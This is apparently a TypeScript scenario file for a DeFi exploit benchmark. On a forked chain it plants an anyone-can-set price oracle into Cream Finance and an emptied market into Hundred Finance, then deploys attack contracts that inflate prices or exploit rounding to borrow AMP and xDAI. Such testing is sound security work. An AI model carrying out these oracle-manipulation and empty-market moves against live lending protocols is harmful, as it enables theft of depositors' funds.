import { encodeFunctionData } from 'viem'
import { assert } from '../../../src/kit/assert.ts'
import type { Address } from '../../../src/model/hex.ts'
import { act, calling, compiled, type Move, type OnState, plant, plantAnswer, putUp, read } from './attack.ts'

const CREAM = {
  comptroller: '0x3d5bc3c8d13dcb8bf317092d84783c2697ae9258',
  oracle: '0x338eee1f7b89ce6272f302bdc4b952c13b221f1d',
  ether: '0xd06527d5e56a3495252a528c4987003b712860ee',
  amp: '0x2db6c82ce72c8d7d770ba1b5f5ed0b6e075066d6',
  ampToken: '0xff20817765cb7f73d4bde2e66e067e58d11095c2',
} as const satisfies Record<string, Address>
const ETHER = 10n ** 18n
const priceOf = (market: Address) => calling('getUnderlyingPrice(address) view returns (uint256)', market)

/** Cream Finance on Ethereum: Compound's code with a market of its own coin. */
export const openPrices: OnState = {
  id: 'open-prices',
  kind: 'Compound-like',
  state: 'CreamFinance',
  protect: [CREAM.ether, CREAM.amp],
  purse: { holder: CREAM.amp, token: CREAM.ampToken, symbol: 'AMP', decimals: 18 },
  planted: 'the oracle’s code: one with the same prices, which anybody may set',
  deed: 'a contract sets the price of ether a million times too high, deposits one, borrows AMP and sets the price back',
  async prepare({ rpc }, attacker) {
    const markets = [CREAM.ether, CREAM.amp]
    const fair = await Promise.all(markets.map((market) => read(rpc, CREAM.oracle, priceOf(market))))
    const { abi, address } = await putUp(rpc, attacker, { name: 'WildOpenPrices', args: [] })
    await rpc.request('anvil_setCode', [CREAM.oracle, await rpc.request('eth_getCode', [address, 'latest'])])
    for (const [i, market] of markets.entries()) {
      const price = fair[i]
      assert(price !== undefined && price > 0n, 'the real oracle knows the price')
      const data = encodeFunctionData({ abi, functionName: 'setPrice', args: [market, price] })
      await act(rpc, attacker, { to: CREAM.oracle, data })
    }
    const args = [CREAM.oracle, CREAM.comptroller, CREAM.ether, CREAM.amp, CREAM.ampToken]
    const loan = await putUp(rpc, attacker, { name: 'WildPriceLoan', args })
    const cash = await read(rpc, CREAM.amp, calling('getCash() view returns (uint256)'))
    return twoLoans('WildPriceLoan', loan.address, {
      first: (cash * 6n) / 10n,
      second: (cash * 3n) / 10n,
      value: ETHER,
    })
  },
}

type Loans = { first: bigint; second: bigint; value: bigint }

function twoLoans(name: string, to: Address, { first, second, value }: Loans): { attack: Move; again: Move } {
  const { abi } = compiled(name)
  const move = (amount: bigint): Move => {
    return { to, data: encodeFunctionData({ abi, functionName: 'attack', args: [amount] }), value }
  }
  return { attack: move(first), again: move(second) }
}

const HUNDRED = {
  comptroller: '0x0f390559f258eb8591c8e31cf0905e97cf36ace2',
  coin: '0x090a00a2de0ea83def700b5e216f87a5d4f394fe',
  dollar: '0x243e33aa7f6787154a8e59d3c27a66db3f8818ee',
  dollarToken: '0xddafbb505ad214d7b80b1f830fccc89b60fb7a83',
  wrapped: '0xe91d153e0b41518a2ce8dd3d7944fa863463a97d',
  pool: '0x7f90122bf0700f9e7e1f688fe926940e8839f353',
} as const satisfies Record<string, Address>
/** Compound’s cToken: where it keeps its first exchange rate, borrows, reserves and supply. */
const [FIRST_RATE, BORROWS, RESERVES, SUPPLY] = [7n, 11n, 12n, 13n]
const TWO_CENTS = 2n * 10n ** 14n

/** Hundred Finance on Gnosis Chain: Compound’s code too. */
export const emptyMarket: OnState = {
  id: 'empty-market',
  kind: 'Compound-like, an empty market',
  state: 'HundredFinance',
  protect: [HUNDRED.coin, HUNDRED.dollar],
  purse: { holder: HUNDRED.coin, token: null, symbol: 'xDAI', decimals: 18 },
  planted:
    'the books of the USDC market: listed and empty, with the usual first exchange rate, which is not in the file',
  deed: 'a contract makes two shares of the empty market worth millions by a gift, borrows xDAI on them and takes the gift back by rounding',
  async prepare({ rpc }, attacker) {
    for (const slot of [BORROWS, RESERVES, SUPPLY]) await plant(rpc, HUNDRED.dollar, slot, 0n)
    await plant(rpc, HUNDRED.dollar, FIRST_RATE, TWO_CENTS)
    const cash = calling('balanceOf(address) view returns (uint256)', HUNDRED.dollar)
    await plantAnswer(rpc, HUNDRED.dollarToken, cash, 0n)
    const { comptroller, dollar, coin, dollarToken, wrapped, pool } = HUNDRED
    const args = [comptroller, dollar, coin, dollarToken, wrapped, pool]
    const { address } = await putUp(rpc, attacker, { name: 'WildEmptyMarket', args })
    const lent = BigInt(String(await rpc.request('eth_getBalance', [coin, 'latest'])))
    return twoLoans('WildEmptyMarket', address, {
      first: (lent * 6n) / 10n,
      second: (lent * 3n) / 10n,
      value: lent * 4n,
    })
  },
}
